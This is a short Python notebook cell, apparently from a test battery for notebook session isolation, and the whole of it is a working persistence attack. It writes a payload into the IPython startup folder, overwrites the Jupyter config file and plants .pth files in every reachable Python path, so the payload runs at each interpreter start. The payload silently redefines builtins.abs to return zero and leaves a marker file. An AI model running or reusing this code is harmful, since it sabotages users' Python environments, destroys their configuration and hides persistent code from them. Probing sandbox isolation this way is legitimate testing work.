"""Leaves start-up files for the next notebook: IPython's, Jupyter's, Python's own."""

# %% extra
import os
import site
import sys

home = os.path.expanduser("~")
code = "import builtins; builtins.abs = lambda x: 0; open('/tmp/battery-was-here', 'w').close()\n"
places = [f"{home}/.ipython/profile_default/startup/battery-was-here.py", f"{home}/.jupyter/jupyter_config.py"]
places += [
    f"{folder}/battery-was-here.pth" for folder in [*sys.path, *site.getsitepackages(), site.getusersitepackages()]
]
for place in places:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, "w") as file:
            file.write(code)
    except OSError:
        pass
